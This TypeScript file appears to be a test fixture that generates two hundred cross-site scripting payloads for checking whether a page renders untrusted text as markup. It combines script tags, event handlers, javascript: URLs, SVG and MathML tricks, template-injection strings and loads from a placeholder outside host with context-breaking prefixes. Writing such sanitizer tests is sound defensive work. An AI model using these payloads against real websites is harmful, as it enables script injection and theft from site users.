/** Sets the mark that no page may ever have. */
const mark = "window.__pwned=1";

/** Markup that runs a script or leads elsewhere, as soon as somebody takes a text for markup. */
const vectors = [
  `<script>${mark}</script>`,
  `<script src=//elsewhere.invalid/x.js></script>`,
  `<script type=module>${mark}</script>`,
  `<SCRIPT>${mark}</SCRIPT>`,
  `<scr<script>ipt>${mark}</scr</script>ipt>`,
  `<img src=x onerror=${mark}>`,
  `<img src=x onerror="${mark}">`,
  `<img/src=x/onerror=${mark}>`,
  `<IMG SRC=x ONERROR=${mark}>`,
  `<img src=//elsewhere.invalid/pixel.png>`,
  `<svg onload=${mark}>`,
  `<svg/onload=${mark}//`,
  `<svg><script>${mark}</script></svg>`,
  `<svg><animate onbegin=${mark} attributeName=x dur=1s>`,
  `<svg><use href=data:image/svg+xml,x#x></use></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${mark}>`,
  `<body onload=${mark}>`,
  `<iframe src="javascript:parent.__pwned=1"></iframe>`,
  `<iframe srcdoc="<script>parent.__pwned=1</script>"></iframe>`,
  `<object data="data:text/html,<script>${mark}</script>"></object>`,
  `<embed src="data:text/html,x">`,
  `<a href="javascript:${mark}">click</a>`,
  `<form action="javascript:${mark}"><button>go</button></form>`,
  `<button formaction="javascript:${mark}">go</button>`,
  `<input autofocus onfocus=${mark}>`,
  `<select autofocus onfocus=${mark}><option>x</select>`,
  `<textarea autofocus onfocus=${mark}></textarea>`,
  `<details open ontoggle=${mark}>x</details>`,
  `<video><source onerror=${mark}></video>`,
  `<audio src=x onerror=${mark}></audio>`,
  `<marquee onstart=${mark}>x</marquee>`,
  `<div style="background:url(//elsewhere.invalid/x)">x</div>`,
  `<style>*{background:url(//elsewhere.invalid/x)}</style>`,
  `<link rel=stylesheet href=//elsewhere.invalid/x.css>`,
  `<base href=//elsewhere.invalid/>`,
  `<meta http-equiv=refresh content="0;url=//elsewhere.invalid/">`,
  `<template><img src=x onerror=${mark}></template>`,
  `<p onmouseover=${mark} style=position:fixed;inset:0>x</p>`,
  `{{constructor.constructor('${mark}')()}}`,
  `\${${mark}}`,
];

/** What a careless page may have put around the text. */
const surroundings: ((vector: string) => string)[] = [
  (vector) => vector,
  (vector) => `">${vector}`,
  (vector) => `'>${vector}<x y='`,
  (vector) => `--></title></style></textarea></script>${vector}`,
  (vector) => `\u001b[31m\u202e${vector}`,
];

/** Two hundred texts, each of which would do something in a page that has one hole. */
export const payloads = vectors.flatMap((vector) => surroundings.map((around) => around(vector)));
